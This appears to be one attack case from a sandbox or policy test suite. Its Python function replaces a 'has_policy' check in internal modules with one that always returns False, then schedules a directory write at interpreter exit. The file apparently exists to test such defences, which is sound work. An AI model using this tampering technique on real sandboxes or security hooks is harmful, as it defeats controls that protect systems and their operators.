"""What the library asks with is exchanged in place."""
CATEGORY = "tampering"
REACH = "write"

import os
import threading

from . import payload


def attack():
    for checks in getattr(threading, "_imp", None), __import__("_imp"):
        try:
            vars(checks)["has_policy"] = lambda: False
        except TypeError:
            pass
    threading._register_atexit(os.mkdir, payload.TARGET)
